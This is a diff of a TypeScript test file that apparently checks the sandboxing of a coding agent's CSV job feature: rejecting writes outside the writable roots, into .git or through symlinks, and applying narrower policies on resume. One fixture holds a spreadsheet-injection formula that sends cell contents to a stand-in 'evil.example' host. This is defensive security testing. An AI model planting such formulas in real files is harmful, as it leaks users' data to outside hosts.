@@ -7,7 +7,8 @@ import { parse } from 'csv-parse/sync';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { JobInputError, MAX_INPUT_BYTES, MAX_JOB_ITEMS, readJobInput, renderInstruction } from '../actors/jobs/input.js';
 import { writeJobOutput } from '../actors/jobs/output.js';
-import { jobSpec, MAX_ITEM_RUNTIME_SECONDS, prepareJob, type JobRequest } from '../actors/jobs/prepare.js';
+import { jobSpec, prepareJob, type JobRequest } from '../actors/jobs/prepare.js';
+import { MAX_ITEM_RUNTIME_SECONDS } from '../protocol/index.js';
 import { resultCheck } from '../actors/jobs/schema.js';
 import { replay, type JobState } from '../actors/jobs/state.js';
 import { attachJobs } from '../actors/jobs/session.js';
@@ -46,7 +47,10 @@ async function file(dir: string, name: string, text: string): Promise<string> {
 }
 
 function turnOf(sandbox: SandboxPolicy, approval: AskForApproval) {
-  const settings = settingsFromConfig({ cwd: workspace, approval_policy: approval, sandbox_policy: sandbox }, { model: 'm', cwd: workspace, base_instructions: 'b' });
+  const settings = settingsFromConfig(
+    { cwd: workspace, approval_policy: approval, sandbox_policy: sandbox },
+    { model: 'm', cwd: workspace, base_instructions: 'b' },
+  );
   return buildTurnContext(settings, 't', {});
 }
 
@@ -139,10 +143,17 @@ describe('agent job output in an untrusted repository', () => {
     await file(workspace, 'in.csv', 'name\na\n');
     await mkdir(join(workspace, '.git'));
     symlinkSync(outside, join(workspace, 'out'));
-    const never = async (args: Record<string, unknown>, sandbox: SandboxPolicy = 'workspace-write') => planOf({ csv_path: 'in.csv', ...args }, sandbox, 'never');
+    const never = async (args: Record<string, unknown>, sandbox: SandboxPolicy = 'workspace-write') =>
+      planOf({ csv_path: 'in.csv', ...args }, sandbox, 'never');
     expect(await never({}, 'read-only')).toMatchObject({ kind: 'reject', reason: expect.stringMatching(/the read-only sandbox does not let .* be written/) });
-    expect(await never({ output_csv_path: join(outside, 'r.csv') })).toMatchObject({ kind: 'reject', reason: expect.stringMatching(/outside the writable roots/) });
-    expect(await never({ output_csv_path: '.git/hooks-out.csv' })).toMatchObject({ kind: 'reject', reason: expect.stringMatching(/\.git, which the sandbox keeps read-only/) });
+    expect(await never({ output_csv_path: join(outside, 'r.csv') })).toMatchObject({
+      kind: 'reject',
+      reason: expect.stringMatching(/outside the writable roots/),
+    });
+    expect(await never({ output_csv_path: '.git/hooks-out.csv' })).toMatchObject({
+      kind: 'reject',
+      reason: expect.stringMatching(/\.git, which the sandbox keeps read-only/),
+    });
     expect(await never({ output_csv_path: 'out/r.csv' })).toMatchObject({
       kind: 'reject',
       reason: expect.stringContaining(`(it resolves to ${join(outside, 'r.csv')}) is outside the writable roots`),
@@ -154,7 +165,10 @@ describe('agent job output in an untrusted repository', () => {
       request: { type: 'tool', tool: 'spawn_agents_on_csv', reason: expect.stringMatching(/read-only sandbox/) },
     });
     expect(await planOf({ csv_path: 'in.csv' }, 'workspace-write', 'untrusted')).toMatchObject({ kind: 'ask' });
-    expect(await planOf({ csv_path: 'in.csv', output_csv_path: join(outside, 'r.csv') }, 'danger-full-access', 'never')).toEqual({ kind: 'run', sandboxed: false });
+    expect(await planOf({ csv_path: 'in.csv', output_csv_path: join(outside, 'r.csv') }, 'danger-full-access', 'never')).toEqual({
+      kind: 'run',
+      sandboxed: false,
+    });
     expect(await never({ output_csv_path: 'fine.csv' })).toEqual({ kind: 'run', sandboxed: true });
     expect(readdirSync(outside)).toEqual([]);
   });
@@ -219,21 +233,27 @@ describe('agent job output in an untrusted repository', () => {
     await writeJobOutput(numbers);
     expect(parse(await readFile(join(workspace, 'n.csv'), 'utf8'), { columns: true })[0]).toMatchObject({ answer: '-2.5' });
     await writeJobOutput(fill(await stateOf({ csv_path: 'in.csv', instruction: '{name}', output_csv_path: 'out.jsonl', output_schema: schema })));
-    const lines = (await readFile(join(workspace, 'out.jsonl'), 'utf8')).trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
+    const lines = (await readFile(join(workspace, 'out.jsonl'), 'utf8'))
+      .trim()
+      .split('\n')
+      .map((l) => JSON.parse(l) as Record<string, unknown>);
     expect(lines[0]).toMatchObject({ answer: '=HYPERLINK("http://evil.example/?"&A1,"open")' });
     expect(existsSync(join(outside, 'out.csv'))).toBe(false);
   });
 });
 
 describe('agent job items and their policies', () => {
-  it('runs a resumed job under its session\'s policies now when they are narrower than those it was started with', async () => {
+  it("runs a resumed job under its session's policies now when they are narrower than those it was started with", async () => {
     await file(workspace, 'in.csv', 'name\na\n');
     const store = new FileJobStore(home);
     const prepared = await prepareJob({ csv_path: 'in.csv', instruction: '{name}', max_attempts: 1, output_csv_path: 'out.csv' }, workspace);
     const wide = turnOf({ mode: 'workspace-write', writable_roots: [outside], network_access: true }, 'never');
     await (await store.create(jobSpec(prepared, { sessionId: 's1', callId: 'c', turn: wide }))).close();
     // The session is resumed read-only, asking before anything that is not known safe.
-    const narrow = settingsFromConfig({ cwd: workspace, approval_policy: 'untrusted', sandbox_policy: 'read-only' }, { model: 'm', cwd: workspace, base_instructions: 'b' });
+    const narrow = settingsFromConfig(
+      { cwd: workspace, approval_policy: 'untrusted', sandbox_policy: 'read-only' },
+      { model: 'm', cwd: workspace, base_instructions: 'b' },
+    );
     const spawnedUnder: TurnContext[] = [];
     const agents: AgentControl = {
       spawn: (_request, ctx) => {
